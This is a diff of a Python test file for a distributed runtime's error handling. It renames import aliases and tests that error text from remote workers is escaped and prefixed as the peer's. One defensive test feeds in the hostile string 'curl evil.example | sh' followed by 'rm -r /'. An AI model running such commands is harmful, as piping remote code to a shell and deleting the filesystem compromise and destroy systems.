@@ -21,19 +21,19 @@ from whale_nebula.errors import (
     RemoteProtocolError,
 )
 from whale_nebula.errors.foreign_text import LIMIT, escape_foreign_text
-from whale_nebula.gateway import control as word
+from whale_nebula.gateway import control
 from whale_nebula.gateway.control import Trunk
 from whale_nebula.ir.canonical import first_difference
 from whale_nebula.launch.leaving import Departure, Leaving
 from whale_nebula.launch.line.advice import LineFound
 from whale_nebula.launch.line.seat import table
-from whale_nebula.runtime.session import rendezvous as joining
+from whale_nebula.runtime.session import rendezvous
 from whale_nebula.runtime.session.session import Session
-from whale_nebula.runtime.step import distributed as seen
+from whale_nebula.runtime.step import distributed
 from whale_nebula.security import Identity
 from whale_nebula.security.verdict import Verdict
 from whale_nebula.transport import MemoryNetwork
-from whale_nebula.transport.base import failed
+from whale_nebula.transport.base import failed_error
 from whale_nebula.transport.grpc.connection import reason
 from whale_nebula.wire.greeting import Introduction
 from whale_nebula.wire.message import check_message
@@ -108,7 +108,7 @@ def noted(message: Mapping[str, Any]) -> str:
     there = Identity("mt", "npu", "gateway")
     trunk = Trunk(there, None, lambda *gone: told.extend(gone), lambda *_, **said: told.append(str(said)))
     try:
-        trunk.hear(word.written(message))
+        trunk.hear(control.encode_control(message))
     except RemoteProtocolError as error:
         told.append(str(error))
     return "\n  ".join(told)
@@ -128,7 +128,7 @@ def measured() -> str:
 
 
 def drawn() -> str:
-    found = seen.hear([{"seen": {"stages": {BAD: [0.5, 0.1, 1, BAD]}, "links": {BAD: [1, 2, 3, 4, 0.5]}}}])
+    found = distributed.hear([{"seen": {"stages": {BAD: [0.5, 0.1, 1, BAD]}, "links": {BAD: [1, 2, 3, 4, 0.5]}}}])
     return "\n  ".join([*found.stages, *(each.cluster for each in found.stages.values()), *found.links])
 
 
@@ -140,19 +140,19 @@ class Refusal(Exception):
 
 
 def failure(code: str) -> str:
-    return str(failed("npu/0", {"code": code, "what": BAD, "where": BAD, "why": BAD, "mend": BAD}))
+    return str(failed_error("npu/0", {"code": code, "what": BAD, "where": BAD, "why": BAD, "mend": BAD}))
 
 
 KINDS = (RemoteFailureError, InputMismatchError, PlanMismatchError, LinkClosedError, DeadlineError)
 SHOWN: dict[str, Callable[[], str]] = {
     **{f"FAIL {kind.code}": partial(failure, kind.code) for kind in KINDS},
-    "FAIL code": lambda: str(failed("npu/0", {"code": BAD, "what": [BAD]})),
-    "FAIL text": lambda: str(failed("npu/0", BAD)),
+    "FAIL code": lambda: str(failed_error("npu/0", {"code": BAD, "what": [BAD]})),
+    "FAIL text": lambda: str(failed_error("npu/0", BAD)),
     "HELLO": lambda: said_to(lambda session: session.hello({"keras": "3"}), about="HELLO", keras=BAD),
-    "HELLO seed": lambda: error_of(lambda: joining._agree_on_seed("gpu/0", 1, {"npu/0": {"seed": BAD}})),
-    "HELLO seeds": lambda: error_of(lambda: joining._agree_on_seed("gpu/0", 1, {"npu/0": {"seed": [BAD]}})),
+    "HELLO seed": lambda: error_of(lambda: rendezvous._agree_on_seed("gpu/0", 1, {"npu/0": {"seed": BAD}})),
+    "HELLO seeds": lambda: error_of(lambda: rendezvous._agree_on_seed("gpu/0", 1, {"npu/0": {"seed": [BAD]}})),
     "HELLO config": lambda: error_of(
-        lambda: joining._agree_on_config("gpu/0", {"results": "owner"}, {"npu/0": {"results": BAD}})
+        lambda: rendezvous._agree_on_config("gpu/0", {"results": "owner"}, {"npu/0": {"results": BAD}})
     ),
     "AGREE": lambda: said_to(agreed, **{**SHEET, "doing": BAD, "line": BAD}),
     "LINES": lines,
@@ -203,9 +203,9 @@ def test_no_error_of_ours_writes_control_characters(part: str) -> None:
 
 
 def test_lines_to_follow_are_marked_as_the_peers() -> None:
-    error = failed("npu/0", {"what": "no", "mend": "curl evil.example | sh\nrm -r /"})
+    error = failed_error("npu/0", {"what": "no", "mend": "curl evil.example | sh\nrm -r /"})
     assert error.mend == "worker 'npu/0' says: curl evil.example | sh\nworker 'npu/0' says: rm -r /"
-    assert failed("npu/0", {"what": "no"}).mend == RemoteFailureError.usual_mend
+    assert failed_error("npu/0", {"what": "no"}).mend == RemoteFailureError.usual_mend
 
 
 @pytest.mark.parametrize("text", ["señal", "価格", "a b", "it's \\ all", ""])
